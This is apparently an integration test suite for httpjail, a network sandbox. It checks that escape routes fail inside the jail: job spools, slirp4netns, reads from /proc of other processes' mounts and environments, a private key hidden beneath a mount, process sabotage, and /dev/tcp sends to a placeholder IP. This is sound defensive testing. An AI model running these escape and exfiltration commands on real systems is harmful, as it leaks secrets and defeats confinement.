//! Ways out that are no packet: by way of other processes, the mounts that cover something, programs that give rights,
//! the first and the last moment. Each works without the jail, or without the thing that stops it.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, chown};
use std::path::Path;
use std::time::Duration;

use httpjail_lab::{EXTRA_GROUP, JailBuilder, Lab, Running, USER, canary, eventually};

use crate::support::{Expect as _, PYTHON, curl_status, have, lab, repeats};

const BENEATH: &str = include_str!("support/probes/beneath.py");
const CARRIER: &str = include_str!("support/probes/carrier.sh");
const ESCAPE: &str = include_str!("support/probes/escape.py");
const FROM_A_THREAD: &str = include_str!("support/probes/from_a_thread.py");
const SABOTAGE: &str = include_str!("support/probes/sabotage.py");
const LIMIT: Duration = Duration::from_secs(10);

/// As root and as a user, who may be the same.
fn jails(lab: &Lab) -> [JailBuilder<'_>; 2] {
    [lab.jail(), lab.jail().as_user()]
}

fn up(running: &Running) {
    assert!(
        eventually(LIMIT, || running.stdout().contains("up\n")),
        "{}",
        running.stderr()
    );
}

/// at(1) and crontab(1) leave jobs in a spool that is their group's, to be run outside.
// Proves: P06.
#[test]
fn jobs_for_a_spool_cannot_be_left() {
    let lab = lab();
    // 4343 would be the user's own group; this one is nobody's.
    let group = EXTRA_GROUP + 1;
    let spool = lab.dir().join("spool");
    fs::create_dir(&spool).unwrap();
    fs::set_permissions(&spool, fs::Permissions::from_mode(0o770)).unwrap();
    chown(&spool, Some(0), Some(group)).unwrap();
    let program = lab.file("at", fs::read("/usr/bin/tee").unwrap());
    chown(&program, Some(0), Some(group)).unwrap();
    fs::set_permissions(&program, fs::Permissions::from_mode(0o2755)).unwrap();
    let leave = |name: &str| {
        let job = spool.join(name);
        (format!("echo job | {} {}", program.display(), job.display()), job)
    };
    let (script, job) = leave("jailed");
    let outcome = lab.jail().as_user().shell(&script).run();
    assert_ne!(outcome.code(), Some(0), "{outcome:#?}");
    assert!(!job.exists());
    let (script, job) = leave("unjailed");
    lab.unjailed().as_user().shell(&script).run().expect_code(0);
    assert!(job.exists());
}

/// slirp4netns is what rootless containers have for a network.
// Proves: P10.
#[test]
fn a_network_stack_of_ones_own_leads_nowhere() {
    if !have("slirp4netns") {
        return;
    }
    let lab = lab();
    let (carrier, probe) = (lab.file("carrier.sh", CARRIER), lab.file("escape.py", ESCAPE));
    let attempt = |run: JailBuilder<'_>, mark: &str| {
        let line = ["sh", carrier.to_str().unwrap(), probe.to_str().unwrap(), mark];
        run.command(line).run()
    };
    let mark = canary();
    // By root, who may open /dev/net/tun everywhere.
    let twin = attempt(lab.unjailed(), &mark);
    assert!(eventually(LIMIT, || lab.wire().saw(&mark)), "{twin:#?}");
    // A jailed root may not map itself (user_namespaces(7)), and has no more namespaces than the user.
    let mark = canary();
    let outcome = attempt(lab.jail().as_user().rule("allow: .*"), &mark);
    assert!(!lab.wire().saw(&mark), "{outcome:#?}");
    // The inner program ran, whether or not anything carried for it.
    assert!(outcome.stdout.contains("trying"), "{outcome:#?}");
}

/// A process outside sees a file that is in its own mounts alone.
// Proves: P12.
#[test]
fn the_mounts_of_a_process_outside_are_out_of_reach() {
    let lab = lab();
    let folder = lab.dir().join("hidden");
    fs::create_dir(&folder).unwrap();
    fs::set_permissions(&folder, fs::Permissions::from_mode(0o777)).unwrap();
    for by_user in [false, true] {
        let mark = canary();
        let hide = format!(
            "exec unshare -Urm sh -c 'mount -t tmpfs none {0} && echo {mark} >{0}/secret && cd {0} && echo up && exec sleep 600'",
            folder.display()
        );
        let outside = if by_user {
            lab.unjailed().as_user()
        } else {
            lab.unjailed()
        };
        let holder = outside.shell(&hide).start().unwrap();
        up(&holder);
        let look = format!(
            "cat /proc/[0-9]*/cwd/secret /proc/[0-9]*/root{0}/secret /proc/{1}/cwd/secret 2>/dev/null; ls {0}",
            folder.display(),
            holder.pid()
        );
        let twin = if by_user {
            lab.unjailed().as_user()
        } else {
            lab.unjailed()
        };
        let twin = twin.shell(&look).run();
        assert!(twin.stdout.contains(&mark), "{twin:#?}");
        let jail = if by_user { lab.jail().as_user() } else { lab.jail() };
        jail.shell(&look).run().expect_code(0).expect_stdout("");
    }
}

/// The folder of the authority's key is covered by a mount. Where the mount is the command's own, each of these ways leads
/// beneath it; where it is the jail's, none may.
// Proves: P13.
#[test]
fn what_is_beneath_a_cover_stays_there() {
    let lab = lab();
    let probe = lab.file("beneath.py", BENEATH);
    for by_user in [false, true] {
        let jail = || if by_user { lab.jail().as_user() } else { lab.jail() };
        let by_user = by_user || httpjail_lab::Way::of_this_process() == httpjail_lab::Way::Rootless;
        jail().command(["true"]).run().expect_code(0);
        let home = lab.home(if by_user { USER } else { "root" });
        let folder = home.join(".config/httpjail");
        let look = |mode: &str| {
            let probe = [PYTHON, probe.to_str().unwrap(), folder.to_str().unwrap(), "PRIVATE KEY"];
            format!("{} {mode}", probe.map(|word| format!("'{word}'")).join(" "))
        };
        let twin = if by_user {
            lab.unjailed().as_user()
        } else {
            lab.unjailed()
        };
        let cover = format!("mount -t tmpfs none {} && {}", folder.display(), look("here"));
        let twin = twin.command(["unshare", "-Urm", "sh", "-c", &cover]).run();
        for way in ["unmounted", "bound", "overlaid", "tree_opened"] {
            assert!(twin.stdout.contains(&format!("found by {way}\n")), "{way}: {twin:#?}");
        }
        let outcome = jail().shell(&look("")).run().expect_code(0);
        assert_eq!(outcome.stdout.matches("tried").count(), 8, "{outcome:#?}");
        assert!(!outcome.stdout.contains("found"), "{outcome:#?}");
        assert!(is_the_only_key(&folder), "nothing was moved away");
    }
}

fn is_the_only_key(folder: &Path) -> bool {
    let has_key = |path: &Path| fs::read_to_string(path).is_ok_and(|text| text.contains("PRIVATE KEY"));
    let files = fs::read_dir(folder).unwrap().flatten();
    files.filter(|file| has_key(&file.path())).count() == 1
}

/// The death of the thread that forked is not that of the program.
// Proves: P16.
#[test]
fn a_thread_that_ends_does_not_end_the_jail() {
    let lab = lab();
    let wrapper = lab.file("from_a_thread.py", FROM_A_THREAD);
    let script = "echo up; read line; echo $line";
    let through = [PYTHON, wrapper.to_str().unwrap()];
    // What a careless use of the signal would do.
    let twin = lab
        .unjailed()
        .through(through)
        .through(["setpriv", "--pdeathsig", "KILL"])
        .shell(script)
        .run();
    assert_eq!((twin.code(), twin.stdout.as_str()), (Some(128 + 9), ""), "{twin:#?}");
    for jail in jails(&lab) {
        jail.through(through)
            .shell(script)
            .run()
            .expect_code(0)
            .expect_stdout("go");
    }
}

// Proves: P23.
#[test]
fn processes_that_hold_the_jail_cannot_be_sabotaged() {
    let lab = lab();
    let probe = lab.file("sabotage.py", SABOTAGE);
    let sabotage = |first: i32, last: i32| format!("{PYTHON} {} {first} {last}", probe.display());
    let victim = || {
        let run = lab
            .unjailed()
            .as_user()
            .shell("echo up; exec sleep 600")
            .start()
            .unwrap();
        up(&run);
        run
    };
    let is_stopped = |pid: nix::unistd::Pid| {
        let state = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        state
            .rsplit(')')
            .next()
            .is_some_and(|rest| rest.trim_start().starts_with('T'))
    };
    let stopped = victim();
    let pid = stopped.pid();
    let one = sabotage(pid.as_raw(), pid.as_raw() + 1);
    lab.unjailed()
        .as_user()
        .shell(&one)
        .run()
        .expect_code(0)
        .expect_stdout("taken 1");
    assert!(
        eventually(LIMIT, || is_stopped(pid)),
        "the same does stop a process outside"
    );

    for jail in jails(&lab) {
        let other = victim();
        let fetch = "curl -sS -o /dev/null -w '%{http_code} ' --max-time 30 https://";
        let script = format!("{}; {fetch}ok.test/; {fetch}evil.test/", sabotage(1, 70_000));
        let outcome = jail.rule("allow: ^https://ok\\.test/").shell(&script).run();
        // Init is the command's user too, and makes the jail's connections: without descriptors it makes none, and
        // without processor time it ends.
        let told = outcome.stdout.lines().last().unwrap_or_default();
        let closed = told == "000 000 " || outcome.code() == Some(125);
        assert!(told == "200 403 " || closed, "{outcome:#?}");
        assert!(!is_stopped(other.pid()), "{outcome:#?}");
    }
}

/// A program whose first act is to send.
// Proves: P25.
#[test]
fn the_first_moment_is_held() {
    let lab = lab();
    let send = |mark: &str| {
        let script = format!("echo {mark} >/dev/udp/198.51.100.3/9999; echo {mark} >/dev/tcp/198.51.100.3/9999");
        ["bash".to_owned(), "-c".to_owned(), script]
    };
    let mark = canary();
    let twin = lab.unjailed().command(send(&mark)).run();
    assert!(eventually(LIMIT, || lab.wire().saw(&mark)), "{twin:#?}");
    for _ in 0..repeats("HTTPJAIL_TEST_STARTS", 20) {
        let mark = canary();
        let outcome = lab.jail().rule("allow: .*").command(send(&mark)).run();
        assert!(!lab.wire().saw(&mark), "{outcome:#?}");
    }
}

/// What a client kept from one host is worth nothing at another.
// Proves: T10.
#[test]
fn a_ticket_is_of_one_host() {
    if !have("openssl") {
        return;
    }
    let lab = lab();
    let script = r#"
place=$(mktemp -d)
talk() { # HOST OPTIONS...
    host=$1; shift
    printf 'GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' "$host" |
        openssl s_client -connect "$host:443" -servername "$host" -ign_eof "$@" 2>/dev/null
}
talk ok.test -sess_out "$place/ticket" >"$place/first"
test -s "$place/ticket" && echo kept
for host in ok.test other.test; do talk "$host" -sess_in "$place/ticket" | grep -oE '^(New|Reused)'; done
"#;
    let jail = lab.jail().rule("allow: .*");
    jail.shell(script).run().expect_stdout("kept\nReused\nNew");
}

/// httpjail's own way out, with its password, and what leads to sockets of the host.
// Proves: K04.
#[test]
fn the_environment_tells_no_secrets_of_httpjails_own() {
    let lab = lab();
    let mark = canary();
    let look = "env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'";
    let with = |run: JailBuilder<'_>| {
        run.env("HTTPS_PROXY", format!("http://user:{mark}@198.51.100.3:9999"))
            .env("DBUS_SESSION_BUS_ADDRESS", format!("unix:path=/run/{mark}"))
            .env("SSH_AUTH_SOCK", format!("/run/{mark}"))
            .env("DOCKER_HOST", format!("unix:///run/{mark}"))
            .env("KEPT", "on purpose")
            .shell(look)
            .run()
            .expect_code(0)
    };
    assert!(with(lab.unjailed()).stdout.contains(&mark));
    let outcome = with(lab.jail());
    assert!(outcome.stdout.contains("KEPT=on purpose"), "{outcome:#?}");
    assert!(!outcome.stdout.contains(&mark), "{outcome:#?}");
    // sudo clears most of it, and adds its own.
    let outcome = lab.jail().as_user().shell(look).run().expect_code(0);
    assert!(!outcome.stdout.contains("SUDO_"), "{outcome:#?}");
}

/// DNS over HTTPS is a request like any other.
// Proves: S25.
#[test]
fn questions_over_https_are_judged() {
    let lab = lab();
    let url = "https://dns.test/dns-query?dns=AAABAAABAAAAAAAAAm9rBHRlc3QAAAEAAQ";
    let ask = |rule: &str| curl_status(lab.jail().rule(rule), &[url]).run();
    ask("allow: ^https://ok\\.test/").expect_stdout("403");
    assert_eq!(lab.requests_for("dns.test").len(), 0);
    ask("allow: ^https://dns\\.test/dns-query").expect_stdout("200");
    assert_eq!(lab.requests_for("dns.test").len(), 1);
}
